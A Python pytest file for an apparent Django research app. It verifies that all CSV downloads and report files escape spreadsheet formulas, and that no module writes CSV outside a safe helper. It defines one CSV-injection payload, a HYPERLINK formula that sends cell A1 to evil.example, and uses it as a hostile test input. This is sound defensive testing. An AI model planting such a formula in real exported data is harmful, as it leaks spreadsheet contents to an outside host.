"""Every CSV the tree writes is formula-escaped: the downloads, the CLI files, and the code."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from django.urls import reverse

from csv_safe import frame_csv
from tests.intruder.factories import logged_in

ROOT = Path(__file__).resolve().parents[3]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
# Where CSV may be written by hand: csv_safe itself, and tests that build hostile files.
ALLOWED = ("csv_safe/", "tests/", ".venv/", "node_modules/")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(text: str) -> list[str]:
    """Return the text cells a spreadsheet would run (a negative number is a number)."""
    triggers = ("=", "+", "-", "@", "\t", "\r")
    return [c for c in _cells(text) if c[:1] in triggers and not _is_number(c)]


def _csv_writes(source: str, label: str) -> list[str]:
    """Return each `x.to_csv(...)`, `csv.writer(...)` or `csv.DictWriter(...)` call in a source."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = node.func.attr
            owner = node.func.value
            by_module = isinstance(owner, ast.Name) and owner.id in ("csv", "_csv")
            if name == "to_csv" or (by_module and name in ("writer", "DictWriter")):
                found.append(f"{label}:{node.lineno} {name}")
    return found


def test_no_module_writes_csv_except_through_csv_safe():
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if not relative.startswith(ALLOWED):
            offenders += _csv_writes(path.read_text(encoding="utf-8"), relative)
    assert offenders == [], "write CSV with csv_safe (SafeWriter, SafeDictWriter, frame_csv)"


def test_the_scan_sees_each_way_of_writing_csv_by_hand():
    source = "import csv\nw = csv.writer(f)\nd = csv.DictWriter(f, [])\nframe.to_csv('x.csv')\n"
    assert _csv_writes(source, "m.py") == ["m.py:2 writer", "m.py:3 DictWriter", "m.py:4 to_csv"]
    assert _csv_writes("rows = csv.DictReader(f)\n", "m.py") == []


def test_frame_csv_escapes_text_cells_and_headers_but_not_numbers():
    frame = pd.DataFrame({"target_name": [FORMULA, "Ines"], "rate": [-3.5, 2.0], "@m": ["a", "b"]})
    text = frame_csv(frame)
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["target_name"] == "'" + FORMULA and rows[0]["rate"] == "-3.5"
    assert "'@m" in rows[0]


@pytest.mark.django_db
def test_risk_report_csv_downloads_and_files_hold_no_formula(tmp_path):
    from intruder.models import TargetPerson
    from intruder.risk.rendering import write_risk_report
    from intruder.risk.selectors import run_report
    from tests.intruder.risk_fixtures import finished_cheap_run

    run = finished_cheap_run(["textwash-model"])
    TargetPerson.objects.filter(study=run.study).update(name=FORMULA)
    report = run_report(run)
    client = logged_in(run.study.owner)
    downloads = 0
    for name, frame in report.tables.items():
        url = reverse("risk-download", args=[run.study.slug, run.pk, f"{name}.csv"])
        response = client.get(url)
        assert response.status_code == 200, name
        assert _formula_cells(response.content.decode()) == [], name
        downloads += "target_name" in frame.columns
    assert downloads, "no table carried the hostile target name"
    for path in write_risk_report(report, tmp_path, title="t", html=False, pdf=False):
        if path.suffix == ".csv":
            assert _formula_cells(path.read_text(encoding="utf-8")) == [], path.name


@pytest.mark.django_db
def test_analysis_csv_downloads_and_files_hold_no_formula(tmp_path):
    from intruder.analysis.page import ANALYSIS_PAGE
    from intruder.analysis.report_files import write_report
    from intruder.models import TargetPerson
    from intruder.reports.refresh import report_current
    from tests.intruder.risk_fixtures import add_judgments, risk_study

    study = risk_study()
    add_judgments(study)
    TargetPerson.objects.filter(study=study).update(name=FORMULA)
    client = logged_in(study.owner)
    url = reverse("analysis-table", args=[study.slug, "rates_target", "csv"])
    response = client.get(url)
    assert response.status_code == 200, response.content[:300]
    body = response.content.decode()
    assert "'" + FORMULA in _cells(body)  # the name is there, as text
    assert _formula_cells(body) == []
    report = report_current(study, ANALYSIS_PAGE)["report"]
    for path in write_report(report, tmp_path, plots=False):
        if path.suffix == ".csv":
            assert _formula_cells(path.read_text(encoding="utf-8")) == [], path.name
